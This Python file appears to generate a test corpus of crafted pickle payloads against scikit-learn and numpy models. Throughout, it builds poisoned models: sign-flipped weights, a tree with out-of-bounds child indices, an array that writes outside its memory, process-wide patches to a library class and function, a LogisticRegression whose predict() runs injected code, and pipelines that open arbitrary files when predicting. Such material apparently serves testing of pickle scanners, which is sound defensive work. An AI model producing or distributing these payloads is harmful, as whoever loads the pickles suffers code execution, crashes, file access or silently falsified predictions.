"""Pickles that name what ordinary models name, and lie."""

import pickle

import numpy as np
from sklearn.compose import ColumnTransformer
from sklearn.ensemble import StackingClassifier
from sklearn.feature_extraction.text import TfidfVectorizer
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.tree import DecisionTreeClassifier

from assembler import CODE, Crafted, Payload, build, call, name, new, whole
from models import TEXTS, X, logistic, y


def corpus():
    """Yield the Payloads."""
    yield from changed()
    yield from settings()


def changed():
    """Yield models of other numbers, and pickles that change a class."""

    def payload(title, about, data, effect):
        return Payload(title, "the model itself", about, data, effect)

    model = LogisticRegression(max_iter=500).fit(X, y)
    model.coef_, model.intercept_ = -model.coef_, -model.intercept_
    data = pickle.dumps(model, protocol=5)
    yield payload("weights", "the sign of each is changed", data, "changed")
    tree = DecisionTreeClassifier(max_depth=3, random_state=0).fit(X, y)
    make, how, state = tree.tree_.__reduce__()
    state["nodes"]["left_child"][0] = state["nodes"]["right_child"][0] = 2**40

    vars(tree)["tree_"] = Crafted(make, how, state)
    data = pickle.dumps(tree, protocol=5)
    yield payload("tree", "its branches lead out of it", data, "crashed")
    rebuild = np.zeros(1).__reduce_ex__(5)[0]
    long, last = (2**43,), [(2**43 - 1, 0.0)]
    state = (3, "|", (np.dtype(float), long), None, None, 8, 1, 0)
    kind = Crafted(np.dtype, ("V8", False, True), state)
    filled = (bytearray(8), kind, long, "C"), None, None, iter(last)
    data = pickle.dumps(Crafted(rebuild, *filled), protocol=5)
    yield payload("array", "writes outside its memory", data, "crashed")
    poison = name("sklearn.gaussian_process.kernels:RBF")
    data = whole(build(poison, (None, {"__call__": None})))
    yield payload("class", "changed for the whole process", data, "changed")
    function = "sklearn.feature_selection._univariate_selection:f_classif"
    data = whole(build(name(function), {"changed": 1}))
    yield payload("function", "gets an attribute", data, "changed")
    later = call(
        "sklearn.ensemble._bagging:partial",
        name("numpy.testing:measure"),
        CODE,
        1,
    )
    model = new("sklearn.linear_model._logistic:LogisticRegression")
    data = whole(build(model, {"predict": later}))
    yield payload("at predict", "loads; its predict() runs code", data, "ran")


def settings():
    """Yield models that open files when they predict; no code is theirs."""

    def payload(title, about, model, **more):
        return Payload(
            title,
            "settings",
            about,
            pickle.dumps(model, protocol=5),
            effect="opened",
            beside={"OPEN_ME": b"spam"},
            **more,
        )

    words = TfidfVectorizer().fit(TEXTS)
    spam = [text.startswith("spam") for text in TEXTS]
    model = make_pipeline(words, logistic()).fit(TEXTS, spam)
    words.set_params(input="filename")
    about = "predict() opens the files that the texts name"
    yield payload("texts are files", about, model, asked=["OPEN_ME"])
    about = "predict() opens a file that the model names"
    column = ColumnTransformer([("texts", TfidfVectorizer(), 0)])
    final = make_pipeline(column, logistic()).fit(np.array([TEXTS]).T, spam)
    column.named_transformers_["texts"].set_params(input="filename")
    stack = StackingClassifier([("a", logistic())], logistic()).fit(X, y)
    stack.stack_method_ = ["predict"]
    stack.estimators_[0].classes_ = np.array(["OPEN_ME"] * 3)
    stack.final_estimator_ = final
    yield payload("model names a file", about, stack)
